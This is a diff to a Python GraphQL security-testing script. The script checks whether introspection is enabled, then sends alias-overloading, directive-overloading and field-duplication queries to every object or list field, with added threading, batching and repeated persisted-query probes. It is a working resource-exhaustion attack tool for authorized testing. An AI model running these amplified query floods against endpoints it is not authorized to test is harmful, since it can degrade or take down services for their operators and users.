@@ -1,38 +1,86 @@
 #!/usr/bin/env python3
 
 import requests
-import json
+from requests.adapters import HTTPAdapter
+import orjson
+import numpy as np
+import hashlib
 import sys
 import time
+from concurrent.futures import ThreadPoolExecutor, as_completed
+from functools import lru_cache
+from bisect import bisect_right
 from typing import Dict, Optional, List, Tuple
 
+INTROSPECTION_QUERY = """
+query IntrospectionQuery {\n    __schema {\n        queryType {\n            name\n        }\n        mutationType {\n            name\n        }\n        subscriptionType {\n            name\n        }\n        types {\n            ...FullType\n        }\n        directives {\n            name\n            description\n            locations\n            args {\n                ...InputValue\n            }\n        }\n    }\n}\n\nfragment FullType on __Type {\n    kind\n    name\n    description\n    fields(includeDeprecated: true) {\n        name\n        description\n        args {\n            ...InputValue\n        }\n        type {\n            ...TypeRef\n        }\n        isDeprecated\n        deprecationReason\n    }\n    inputFields {\n        ...InputValue\n    }\n    interfaces {\n        ...TypeRef\n    }\n    enumValues(includeDeprecated: true) {\n        name\n        description\n        isDeprecated\n        deprecationReason\n    }\n    possibleTypes {\n        ...TypeRef\n    }\n}\n\nfragment InputValue on __InputValue {\n    name\n    description\n    type {\n        ...TypeRef\n    }\n    defaultValue\n}\n\nfragment TypeRef on __Type {\n    kind\n    name\n    ofType {\n        kind\n        name\n        ofType {\n            kind\n            name\n            ofType {\n                kind\n                name\n            }\n        }\n    }\n}
+"""
+
+# The introspection request never changes, so it is serialized once at import
+INTROSPECTION_BODY = orjson.dumps({
+    'query': INTROSPECTION_QUERY,
+    'operationName': 'IntrospectionQuery'
+})
+
+# How much of a probe response is read when scanning for errors; the GraphQL
+# spec recommends serializing `errors` first, so it sits at the start
+ERROR_SCAN_BYTES = 64 * 1024
+
+# Probe bodies up to this size are drained so their keep-alive connection
+# returns to the pool; larger bodies are abandoned, which closes the connection
+DRAIN_BYTES = 1024 * 1024
+
+# Overloading attacks run against every testable field
+ATTACKS = ('Alias Overloading', 'Directive Overloading', 'Field Duplication')
+
+# Field return kinds that can be expanded by the overloading probes
+TESTABLE_KINDS = frozenset(('OBJECT', 'LIST'))
+
+@lru_cache(maxsize=None)
+def _repeat(chunk: bytes, count: int) -> bytes:
+    """Repeat a payload chunk; the result is shared by every field probed"""
+    return chunk * count
+
 class GraphQLVulnerabilityTester:
-    def __init__(self, url: str):
+    def __init__(self, url: str, max_workers: int = 10, persisted_queries: bool = True):
         self.url = url
+        self.max_workers = max_workers
+        # Send repeated probes as Automatic Persisted Queries (hash only)
+        self.persisted_queries = persisted_queries
         self.headers = {
             'Content-Type': 'application/json',
             'x-apollo-operation-name': 'IntrospectionQuery',
             'apollo-require-preflight': 'true'
         }
-        self.testable_fields = []
+        # Parallel lists: field i is testable_type_names[i].testable_field_names[i]
+        self.testable_type_names: List[str] = []
+        self.testable_field_names: List[str] = []
+        # Probe results are buffered and written out once by report()
+        self._results: List[Dict] = []
+        # One keep-alive session so every probe reuses a pooled connection;
+        # the pool holds one connection per worker so none are discarded
+        self.session = requests.Session()
+        self.session.headers.update(self.headers)
+        self.session.mount(self.url, HTTPAdapter(pool_connections=1, pool_maxsize=max_workers, max_retries=0))
+
+    def close(self) -> None:
+        """Close the underlying HTTP session"""
+        self.session.close()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, exc_type, exc_value, traceback) -> None:
+        self.close()
         
     def test_introspection(self) -> bool:
         """
         Test if introspection is enabled and return testable fields.
         Returns: bool indicating if introspection is enabled
         """
-        introspection_query = """
-        query IntrospectionQuery {\n    __schema {\n        queryType {\n            name\n        }\n        mutationType {\n            name\n        }\n        subscriptionType {\n            name\n        }\n        types {\n            ...FullType\n        }\n        directives {\n            name\n            description\n            locations\n            args {\n                ...InputValue\n            }\n        }\n    }\n}\n\nfragment FullType on __Type {\n    kind\n    name\n    description\n    fields(includeDeprecated: true) {\n        name\n        description\n        args {\n            ...InputValue\n        }\n        type {\n            ...TypeRef\n        }\n        isDeprecated\n        deprecationReason\n    }\n    inputFields {\n        ...InputValue\n    }\n    interfaces {\n        ...TypeRef\n    }\n    enumValues(includeDeprecated: true) {\n        name\n        description\n        isDeprecated\n        deprecationReason\n    }\n    possibleTypes {\n        ...TypeRef\n    }\n}\n\nfragment InputValue on __InputValue {\n    name\n    description\n    type {\n        ...TypeRef\n    }\n    defaultValue\n}\n\nfragment TypeRef on __Type {\n    kind\n    name\n    ofType {\n        kind\n        name\n        ofType {\n            kind\n            name\n            ofType {\n                kind\n                name\n            }\n        }\n    }\n}
-        """
-        
-        payload = {
-            'query': introspection_query,
-            'operationName': 'IntrospectionQuery'
-        }
-        
         try:
-            response = requests.post(self.url, json=payload, headers=self.headers)
-            result = response.json()
+            response = self.session.post(self.url, data=INTROSPECTION_BODY)
+            result = orjson.loads(response.content)
             
             if 'data' in result and '__schema' in result['data']:
                 print("\n✅ Introspection is ENABLED!")
@@ -48,130 +96,328 @@ class GraphQLVulnerabilityTester:
 
     def _analyze_schema(self, schema: Dict) -> None:
         """Analyze schema to find testable fields"""
-        testable_types = []
-        
-        for type_info in schema['types']:
-            # Skip internal types
-            if type_info['name'].startswith('__'):
-                continue
-                
-            if type_info.get('fields'):
-                for field in type_info['fields']:
-                    field_type = field.get('type', {})
-                    
-                    # Check if field returns an object or list type
-                    is_object = (
-                        field_type.get('kind') in ['OBJECT', 'LIST'] or
-                        (field_type.get('ofType', {}) or {}).get('kind') in ['OBJECT', 'LIST']
-                    )
-                    
-                    if is_object:
-                        self.testable_fields.append({
-                            'type_name': type_info['name'],
-                            'field_name': field['name']
-                        })
-
-        print("\nTestable Fields Found:")
-        print("=====================")
-        for field in self.testable_fields:
-            print(f"Type: {field['type_name']}, Field: {field['field_name']}")
-            print("Vulnerable to:")
-            print("- Alias Overloading")
-            print("- Directive Overloading")
-            print("- Field Duplication")
-            print("---")
-
-    def _send_query(self, query: str) -> tuple:
-        """Send a GraphQL query and measure response time"""
-        payload = {
-            'query': query,
-            'operationName': None
-        }
-        
+        # Keep fields that return an object or list type, skipping internal types
+        testable_fields = [
+            (type_info['name'], field['name'])
+            for type_info in schema['types'] if not type_info['name'].startswith('__')
+            for field in (type_info.get('fields') or ())
+            if (field_type := field.get('type', {})).get('kind') in TESTABLE_KINDS
+            or (field_type.get('ofType') or {}).get('kind') in TESTABLE_KINDS
+        ]
+        self.testable_type_names = [type_name for type_name, _ in testable_fields]
+        self.testable_field_names = [field_name for _, field_name in testable_fields]
+
+        lines = ["\nTestable Fields Found:", "====================="]
+        for type_name, field_name in testable_fields:
+            lines.append(f"Type: {type_name}, Field: {field_name}")
+            lines.append("Vulnerable to:")
+            lines.extend(f"- {attack}" for attack in ATTACKS)
+            lines.append("---")
+        sys.stdout.write("\n".join(lines) + "\n")
+
+    def _send_raw(self, body: bytes, parse_json: bool = False) -> tuple:
+        """
+        Send a pre-serialized GraphQL request body and measure the time until response
+        headers arrive, in nanoseconds (None if the request failed). The response is
+        only downloaded and decoded when parse_json is set; otherwise just the start of
+        the body is returned so callers can scan it without fetching a potentially huge
+        amplified response. Bodies over DRAIN_BYTES are abandoned, so their connection
+        is closed rather than reused.
+        """
         try:
-            start_time = time.time()
-            response = requests.post(self.url, json=payload, headers=self.headers)
-            end_time = time.time()
-            response_time = end_time - start_time
+            start_time = time.perf_counter_ns()
+            response = self.session.post(self.url, data=body, stream=True)
+            response_time = time.perf_counter_ns() - start_time
             
+            if not parse_json:
+                with response:
+                    # A single read can be one small HTTP chunk, so gather a full scan window
+                    chunks = response.iter_content(ERROR_SCAN_BYTES)
+                    scanned = bytearray()
+                    for chunk in chunks:
+                        scanned += chunk
+                        if len(scanned) >= ERROR_SCAN_BYTES:
+                            break
+                    content = bytes(scanned)
+                    content_length = response.headers.get('Content-Length', '')
+                    if not content_length.isdigit() or int(content_length) <= DRAIN_BYTES:
+                        drained = len(content)
+                        for chunk in chunks:
+                            drained += len(chunk)
+                            if drained > DRAIN_BYTES:
+                                break
+                error = None if response.ok else f"HTTP error: {response.status_code}"
+                return content, response_time, error
+
             try:
-                result = response.json()
+                result = orjson.loads(response.content)
                 return result, response_time, None
-            except json.JSONDecodeError:
+            except orjson.JSONDecodeError:
                 return None, response_time, f"Invalid JSON response: {response.text}"
                 
         except requests.exceptions.RequestException as e:
-            return None, 0, f"Request error: {str(e)}"
+            return None, None, f"Request error: {str(e)}"
 
-    def test_overloading_attacks(self, field_info: Dict, num_iterations: int = 100) -> None:
-        """Test all overloading attacks for a specific field"""
-        type_name = field_info['type_name']
-        field_name = field_info['field_name']
-        
-        print(f"\nTesting field: {type_name}.{field_name}")
-        print("=" * 40)
-        
-        # Test alias overloading
-        self._test_alias_overloading(field_name, num_iterations)
-        
-        # Test directive overloading
-        self._test_directive_overloading(field_name, num_iterations)
-        
-        # Test field duplication
-        self._test_field_duplication(field_name, num_iterations)
-
-    def _test_alias_overloading(self, field_name: str, num_aliases: int) -> None:
-        """Test alias overloading"""
-        print("\nTesting Alias Overloading...")
-        alias_parts = [f"alias_{i}: {field_name} {{ id name }}" for i in range(num_aliases)]
-        query = "query {" + " ".join(alias_parts) + "}"
-        
-        result, response_time, error = self._send_query(query)
-        print(f"Response time: {response_time:.2f}s")
-        if error or (result and result.get('errors')):
-            print("Errors detected - possible protection in place")
-
-    def _test_directive_overloading(self, field_name: str, num_directives: int) -> None:
-        """Test directive overloading"""
-        print("\nTesting Directive Overloading...")
-        directives = " ".join(["@include(if: true)" for _ in range(num_directives)])
-        query = f"query {{ {field_name} {directives} {{ id name }} }}"
-        
-        result, response_time, error = self._send_query(query)
-        print(f"Response time: {response_time:.2f}s")
-        if error or (result and result.get('errors')):
-            print("Errors detected - possible protection in place")
-
-    def _test_field_duplication(self, field_name: str, num_duplicates: int) -> None:
-        """Test field duplication"""
-        print("\nTesting Field Duplication...")
-        duplicated_fields = " ".join(["id name" for _ in range(num_duplicates)])
-        query = f"query {{ {field_name} {{ {duplicated_fields} }} }}"
-        
-        result, response_time, error = self._send_query(query)
-        print(f"Response time: {response_time:.2f}s")
-        if error or (result and result.get('errors')):
-            print("Errors detected - possible protection in place")
+    @staticmethod
+    def _query_body(query: bytes, extension: bytes = b'') -> bytes:
+        """Wrap a generated query in a JSON request body.
+
+        Probe queries only contain GraphQL names and punctuation, so they
+        need no JSON escaping and can be spliced in as-is.
+        """
+        if extension:
+            return b'{"query":"' + query + b'",' + extension + b'}'
+        return b'{"query":"' + query + b'"}'
+
+    @staticmethod
+    def _persisted_query_extension(query: bytes) -> bytes:
+        """Build the APQ `extensions` member identifying a query by its SHA-256 hash"""
+        sha256_hash = hashlib.sha256(query).hexdigest().encode()
+        return b'"extensions":{"persistedQuery":{"version":1,"sha256Hash":"' + sha256_hash + b'"}}'
+
+    @staticmethod
+    def _persisted_query_error(content: Optional[bytes]) -> Optional[str]:
+        """Return the APQ error reported in a raw response body, if any"""
+        if content:
+            for message in ('PersistedQueryNotFound', 'PersistedQueryNotSupported'):
+                if message.encode() in content:
+                    return message
+        return None
+
+    def test_overloading_attacks(self, field_indices: List[int], attack: str, num_iterations: int = 100, repeat: int = 1) -> None:
+        """
+        Run one attack from ATTACKS against testable fields and buffer the results.
+        A single field is probed on its own and can be repeated; several fields are
+        batched into one request, which is sent once and downloaded in full.
+        """
+        if repeat > 1 and len(field_indices) > 1:
+            raise ValueError("repeat > 1 is not supported for batched probes")
+        fields = [(self.testable_type_names[i], self.testable_field_names[i]) for i in field_indices]
+        if len(fields) == 1:
+            query = b'query { ' + self._build_selection(attack, fields[0][1], num_iterations) + b'}'
+            results = [self._probe(attack, query, repeat)]
+        else:
+            results = self._batch_probe(fields, attack, num_iterations)
+
+        for (type_name, field_name), (label, response_times, error) in zip(fields, results):
+            self._record(type_name, field_name, label, response_times, error)
+
+    def _record(self, type_name: str, field_name: str, label: str, response_times: np.ndarray, error: Optional[str]) -> None:
+        """Buffer a probe result for the final report"""
+        self._results.append({
+            'field': f"{type_name}.{field_name}",
+            'attack': label,
+            'response_times': response_times,
+            'error': error
+        })
+
+    def report(self) -> str:
+        """Format every buffered probe result with response-time statistics"""
+        # Probes finish in any order, so group results by field, then by attack
+        field_order = {
+            f"{type_name}.{field_name}": i
+            for i, (type_name, field_name) in enumerate(zip(self.testable_type_names, self.testable_field_names))
+        }
+        results = sorted(
+            self._results,
+            key=lambda result: (field_order.get(result['field'], len(field_order)), ATTACKS.index(result['attack']))
+        )
+        lines = []
+        for result in results:
+            response_times = result['response_times'] / 1e9
+            failed = int(np.isnan(response_times).sum())
+            lines.append(f"\n{result['field']} - {result['attack']}")
+            if failed == len(response_times):
+                lines.append(f"Response time: n/a ({failed} of {len(response_times)} requests failed)")
+            elif len(response_times) == 1:
+                lines.append(f"Response time: {response_times[0]:.2f}s")
+            else:
+                p50, p95, p99 = np.nanpercentile(response_times, [50, 95, 99])
+                lines.append(
+                    f"Response time: mean {np.nanmean(response_times):.2f}s, p50 {p50:.2f}s, "
+                    f"p95 {p95:.2f}s, p99 {p99:.2f}s ({len(response_times)} requests, {failed} failed)"
+                )
+            if result['error']:
+                lines.append("Errors detected - possible protection in place")
+        return "\n".join(lines) + "\n"
+
+    def _build_selection(self, attack: str, field_name: str, num_iterations: int, alias: str = '') -> bytes:
+        """Build the top-level selection that runs `attack` against a field, optionally aliased"""
+        name = field_name.encode()
+
+        if attack == 'Alias Overloading':
+            head = f'{alias}_alias_'.encode() if alias else b'alias_'
+            mid = b': ' + name + b' { id name } '
+            aliases = bytearray()
+            for i in range(num_iterations):
+                aliases += head + str(i).encode() + mid
+            return bytes(aliases)
+
+        prefix = alias.encode() + b': ' if alias else b''
+        if attack == 'Directive Overloading':
+            return prefix + name + b' ' + _repeat(b'@include(if: true) ', num_iterations) + b'{ id name } '
+        # Field duplication
+        return prefix + name + b' { ' + _repeat(b'id name ', num_iterations) + b'} '
+
+    def _batch_probe(self, fields: List[Tuple[str, str]], attack: str, num_iterations: int) -> List[Tuple[str, np.ndarray, Optional[str]]]:
+        """
+        Run one attack against several (type_name, field_name) pairs in a single request.
+        Each field is aliased a0, a1, ... and errors are attributed back through their
+        response path, or their source location for validation errors. Fields that fail
+        validation stop the whole document from executing, so they are dropped and the
+        rest of the batch is sent again.
+        """
+        errors: List[Optional[str]] = [None] * len(fields)
+        response_times = [np.nan] * len(fields)
+        remaining = list(range(len(fields)))
+        while remaining:
+            # Record where each field's selection starts; the query is a single line,
+            # so an error's column maps straight back to the field it points at
+            query = bytearray(b'query { ')
+            starts = []
+            for i in remaining:
+                starts.append(len(query))
+                query += self._build_selection(attack, fields[i][1], num_iterations, alias=f'a{i}')
+            query += b'}'
+
+            # The error paths are needed, so this response is decoded in full
+            result, response_time, error = self._send_raw(self._query_body(query), parse_json=True)
+            for i in remaining:
+                response_times[i] = np.nan if response_time is None else response_time
+            if error:
+                for i in remaining:
+                    errors[i] = errors[i] or error
+                break
+
+            invalid = set()
+            for graphql_error in (result or {}).get('errors') or ():
+                message = graphql_error.get('message') or "GraphQL errors in response"
+                index = self._batch_error_index(graphql_error, remaining, starts)
+                if index is None:
+                    for i in remaining:
+                        errors[i] = errors[i] or message
+                    continue
+                errors[index] = errors[index] or message
+                if not graphql_error.get('path'):
+                    invalid.add(index)
+
+            if not invalid:
+                break
+            remaining = [i for i in remaining if i not in invalid]
+
+        return [
+            (attack, np.array([response_time]), field_error)
+            for response_time, field_error in zip(response_times, errors)
+        ]
+
+    @staticmethod
+    def _batch_error_index(graphql_error: Dict, remaining: List[int], starts: List[int]) -> Optional[int]:
+        """Find which batched field an error belongs to, or None if it applies to all"""
+        path = graphql_error.get('path')
+        if path:
+            alias = str(path[0])
+            index = alias[1:].split('_', 1)[0]
+            if alias.startswith('a') and index.isdigit() and int(index) in remaining:
+                return int(index)
+            return None
+
+        # Attribute a location-only error when every location falls in one field
+        positions = {
+            bisect_right(starts, location.get('column', 0) - 1) - 1
+            for location in graphql_error.get('locations') or ()
+            if location.get('line') == 1
+        }
+        if len(positions) == 1 and min(positions) >= 0:
+            return remaining[positions.pop()]
+        return None
+
+    def _probe(self, label: str, query: bytes, repeat: int = 1) -> Tuple[str, np.ndarray, Optional[str]]:
+        """
+        Send one attack query `repeat` times and report response times and any error.
+        Repeats are sent as persisted queries: the first request registers the
+        query's hash and later requests carry only the hash. Any error on a hash-only
+        request turns persisted queries off, so servers without APQ are timed correctly.
+        """
+        first_body = repeat_body = self._query_body(query)
+        if repeat > 1 and self.persisted_queries:
+            extension = self._persisted_query_extension(query)
+            first_body = self._query_body(query, extension)
+            repeat_body = b'{' + extension + b'}'
+
+        # Failed requests are stored as NaN so they stay out of the statistics
+        response_times = np.empty(repeat)
+        probe_error = None
+        body = first_body
+        for i in range(repeat):
+            hash_only = body is not first_body
+            content, response_time, error = self._send_raw(body)
+            persisted_error = self._persisted_query_error(content)
+            if persisted_error == 'PersistedQueryNotFound':
+                # Hash was evicted or never registered, send the full query again
+                content, response_time, error = self._send_raw(first_body)
+            elif persisted_error or (hash_only and self._probe_error(content, error)):
+                # Server has no APQ support, either saying so or by rejecting the
+                # hash-only body (e.g. "Must provide query string"); stop using it
+                # for every probe and resend this one in full
+                self.persisted_queries = False
+                first_body = repeat_body = self._query_body(query)
+                content, response_time, error = self._send_raw(first_body)
+
+            response_times[i] = np.nan if response_time is None else response_time
+            probe_error = probe_error or self._probe_error(content, error)
+            body = repeat_body
+
+        return label, response_times, probe_error
+
+    @staticmethod
+    def _probe_error(content: Optional[bytes], error: Optional[str]) -> Optional[str]:
+        """Collapse a raw probe response into an error message, if any"""
+        if error:
+            return error
+        if content and b'"errors"' in content:
+            return "GraphQL errors in response"
+        return None
 
 def main():
     if len(sys.argv) < 2:
-        print(f"Usage: {sys.argv[0]} <graphql-endpoint-url> [num_iterations]")
+        print(f"Usage: {sys.argv[0]} <graphql-endpoint-url> [num_iterations] [num_workers] [repeat] [batch_size]")
+        print("  repeat > 1 resends each per-field probe and needs batch_size 1;")
+        print("  batch_size > 1 sends each probe once and downloads full responses")
         sys.exit(1)
     
     url = sys.argv[1]
     num_iterations = int(sys.argv[2]) if len(sys.argv) > 2 else 100
+    num_workers = int(sys.argv[3]) if len(sys.argv) > 3 else 10
+    repeat = int(sys.argv[4]) if len(sys.argv) > 4 else 1
+    batch_size = int(sys.argv[5]) if len(sys.argv) > 5 else 1
+    if num_workers < 1 or repeat < 1 or batch_size < 1:
+        print("num_workers, repeat and batch_size must be at least 1")
+        sys.exit(1)
+    if repeat > 1 and batch_size > 1:
+        print("repeat > 1 cannot be combined with batch_size > 1")
+        sys.exit(1)
     
     print(f"Testing GraphQL endpoint: {url}")
-    tester = GraphQLVulnerabilityTester(url)
-    
-    # First test introspection
-    if tester.test_introspection():
-        print("\nStarting vulnerability tests...")
-        # Test each field found through introspection
-        for field_info in tester.testable_fields:
-            tester.test_overloading_attacks(field_info, num_iterations)
-    else:
-        print("\nCannot proceed with testing - introspection is disabled")
+    with GraphQLVulnerabilityTester(url, max_workers=num_workers) as tester:
+        # First test introspection
+        if tester.test_introspection():
+            print("\nStarting vulnerability tests...")
+            # Test each field found through introspection; probes are IO-bound
+            # so they run concurrently over the shared session
+            indices = list(range(len(tester.testable_field_names)))
+            # Each task probes up to batch_size fields with one attack
+            chunks = [indices[i:i + batch_size] for i in range(0, len(indices), batch_size)]
+            with ThreadPoolExecutor(max_workers=tester.max_workers) as executor:
+                futures = [
+                    executor.submit(tester.test_overloading_attacks, chunk, attack, num_iterations, repeat)
+                    for chunk in chunks
+                    for attack in ATTACKS
+                ]
+                for future in as_completed(futures):
+                    future.result()
+            sys.stdout.write(tester.report())
+        else:
+            print("\nCannot proceed with testing - introspection is disabled")
 
 if __name__ == "__main__":
     main()